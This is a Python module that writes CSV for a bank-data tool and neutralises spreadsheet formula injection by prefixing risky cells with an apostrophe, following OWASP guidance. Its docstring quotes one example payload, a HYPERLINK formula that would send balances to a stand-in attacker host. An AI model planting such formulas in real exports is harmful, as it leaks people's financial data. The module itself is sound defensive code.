"""CSV out, the one way every command and the dashboard writes it: cells that a spreadsheet would run
as a formula are neutralised.

Bank data is data, but Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, through their import, a tab or a carriage return) as a formula: an account named
``=HYPERLINK("https://evil.invalid?"&A1, "x")`` would send the sheet's balances away. As OWASP's "CSV
Injection" page advises, such a cell is written with a leading ``'`` (shown by spreadsheets, never
evaluated). Plain numbers (``-12.50``, ``+3``) are left alone: they are values, not formulas, and the
file must keep every digit for programs. Quoting is the ``csv`` module's (RFC 4180), line ends ``\n``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def spreadsheet_safe(cell: str) -> str:
    """``cell``, with a ``'`` in front when a spreadsheet would take it for a formula."""
    if cell.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(cell) is None:
        return "'" + cell
    return cell


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text (``\\n`` line ends); ``None`` is an empty cell, anything else its ``str``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    # Python 3.11's writer quotes a cell holding "\n" (the line end) but not one holding a lone "\r",
    # which readers take for a line end: such a row is written with every cell quoted.
    carriage = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [spreadsheet_safe("" if cell is None else str(cell)) for cell in row]
        (carriage if any("\r" in cell for cell in cells) else writer).writerow(cells)
    return buffer.getvalue()
